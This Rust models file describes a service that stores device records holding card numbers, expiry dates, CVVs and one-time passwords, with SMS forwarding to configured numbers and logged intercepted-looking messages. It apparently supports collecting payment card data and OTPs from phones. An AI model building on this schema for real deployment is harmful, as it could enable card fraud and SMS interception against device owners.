// Typed views over the stored documents.
//
// The adapters move raw `serde_json::Value` documents; these models are the
// typed lens the service layer uses when it needs to inspect a record. Field
// names stay camelCase on the wire. The `recieverPhoneNumber` spelling on
// message records is the format mobile clients already send and is kept.

use std::fmt;
use std::str::FromStr;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};

use crate::error::RelayError;

/// Collection names used by every backend.
pub mod collections {
    pub const DEVICE: &str = "device";
    pub const MESSAGE: &str = "message";
    pub const PHONE_NUMBER: &str = "phone_number";
    pub const ADMIN: &str = "admin";
}

// ─── Forwarding ──────────────────────────────────────────────────

/// Stored forwarding switch on a device record.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ForwardingState {
    Active,
    #[default]
    Deactive,
}

impl FromStr for ForwardingState {
    type Err = RelayError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "active" => Ok(Self::Active),
            "deactive" => Ok(Self::Deactive),
            _ => Err(RelayError::validation(
                "isForwarded must be 'active' or 'deactive'",
            )),
        }
    }
}

impl fmt::Display for ForwardingState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Active => write!(f, "active"),
            Self::Deactive => write!(f, "deactive"),
        }
    }
}

/// Derived external forwarding status: `disabled` means the device has no
/// forward number configured at all.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ForwardingStatus {
    Active,
    Deactive,
    Disabled,
}

// ─── Device ──────────────────────────────────────────────────────

/// One record per physical device (or admin-created phone-number record).
///
/// Either `deviceId` or `mobileNumber` may address the record; the two
/// lookup paths are independent and never reconciled.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct DeviceRecord {
    pub id: Option<String>,
    pub device_id: Option<String>,
    pub mobile_number: Option<String>,
    pub name: Option<String>,
    pub email: Option<String>,
    pub state: Option<String>,
    pub working_state: Option<String>,
    /// Limit fields are free-form — clients send strings or numbers.
    pub total_limit: Option<serde_json::Value>,
    pub available_limit: Option<serde_json::Value>,
    pub card_holder_name: Option<String>,
    pub card_number: Option<String>,
    pub expiry_date: Option<String>,
    pub cvv: Option<String>,
    pub forward_phone_number: Option<String>,
    pub otp: Option<String>,
    pub is_forwarded: ForwardingState,
    /// Single-slot one-time-read mailbox.
    pub to: Option<String>,
    pub message: Option<String>,
    pub message_fetched: bool,
    pub created_at: Option<DateTime<Utc>>,
    pub updated_at: Option<DateTime<Utc>>,
}

impl DeviceRecord {
    /// Derive the external forwarding status for this record. A missing or
    /// blank `forwardPhoneNumber` means forwarding was never configured.
    pub fn forwarding_status(&self) -> ForwardingStatus {
        let configured = self
            .forward_phone_number
            .as_deref()
            .is_some_and(|s| !s.trim().is_empty());
        match (configured, self.is_forwarded) {
            (false, _) => ForwardingStatus::Disabled,
            (true, ForwardingState::Active) => ForwardingStatus::Active,
            (true, ForwardingState::Deactive) => ForwardingStatus::Deactive,
        }
    }
}

// ─── Message ─────────────────────────────────────────────────────

/// An immutable logged message attributed to a device.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct MessageRecord {
    pub id: Option<String>,
    pub sender_phone_number: String,
    #[serde(rename = "recieverPhoneNumber")]
    pub reciever_phone_number: Option<String>,
    pub message: String,
    pub time: String,
    pub device_id: String,
    pub created_at: Option<DateTime<Utc>>,
}

// ─── Phone number ────────────────────────────────────────────────

/// A bare admin-created phone number, unique and create-only.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PhoneRecord {
    pub id: Option<String>,
    pub phone_number: String,
    pub created_at: Option<DateTime<Utc>>,
}

// ─── Admin ───────────────────────────────────────────────────────

/// Stored admin credential. The password is kept only as a scrypt hash.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct AdminRecord {
    pub id: Option<String>,
    pub email: String,
    pub password_hash: String,
    pub created_at: Option<DateTime<Utc>>,
}
